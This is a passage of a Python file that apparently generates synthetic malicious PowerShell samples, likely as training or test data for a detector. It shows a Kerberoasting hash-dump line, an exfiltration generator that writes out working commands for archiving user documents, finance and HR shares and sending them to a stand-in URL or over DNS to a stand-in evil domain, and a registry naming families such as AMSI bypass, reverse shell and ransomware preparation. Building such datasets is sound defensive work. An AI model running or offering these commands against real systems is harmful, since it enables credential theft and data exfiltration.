    return "Invoke-Kerberoast -OutputFormat Hashcat | Select-Object -ExpandProperty Hash | Out-File -Encoding ascii $env:TEMP\\h.txt"


def exfiltration(rng: Random) -> str:
    url = v.payload_url(rng, ext=rng.choice(("/upload", "/u.php", "/api/upload", "")))
    archive = f"$env:TEMP\\{v.token(rng, 6).lower()}.zip"
    src = rng.choice(
        (
            "C:\\Users\\*\\Documents",
            "C:\\Users\\*\\Desktop\\*.xlsx",
            "D:\\Shares\\Finance",
            "\\\\fs-01\\HR$",
        )
    )
    k = rng.randrange(4)
    if k == 0:
        return f"Compress-Archive -Path {src} -DestinationPath {archive} -Force; Invoke-RestMethod -Uri {url} -Method Post -InFile {archive}"
    if k == 1:
        return f"$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('{archive}'));Invoke-WebRequest -Uri {url} -Method POST -Body $b -UseBasicParsing"
    if k == 2:
        return f"(New-Object Net.WebClient).UploadFile('{url}', '{archive}')"
    return (
        f"Get-ChildItem {src} -Recurse | ForEach-Object {{ $d=[Convert]::ToBase64String([IO.File]::ReadAllBytes($_.FullName)); "
        f'Resolve-DnsName -Type TXT "$($d.Substring(0,60)).{v.evil_domain(rng)}" }}'
    )


MALICIOUS_FAMILIES: dict[str, Callable[[Random], str]] = {
    "webclient_cradle": webclient_cradle,
    "iwr_cradle": iwr_cradle,
    "bits_download_exec": bits_download_exec,
    "certutil_download": certutil_download,
    "hidden_process_dropper": hidden_process_dropper,
    "encoded_stager": encoded_stager,
    "amsi_bypass": amsi_bypass,
    "logging_bypass": logging_bypass,
    "reflective_load": reflective_load,
    "shellcode_runner": shellcode_runner,
    "credential_dumping": credential_dumping,
    "credential_harvest": credential_harvest,
    "persistence_schtasks": persistence_schtasks,
    "persistence_run_key": persistence_run_key,
    "persistence_wmi": persistence_wmi,
    "lateral_wmi": lateral_wmi,
    "lateral_remoting": lateral_remoting,
    "defender_tamper": defender_tamper,
    "reverse_shell": reverse_shell,
    "ransomware_prep": ransomware_prep,
    "compressed_payload": compressed_payload,
    "ad_recon_tools": ad_recon_tools,
    "exfiltration": exfiltration,
}
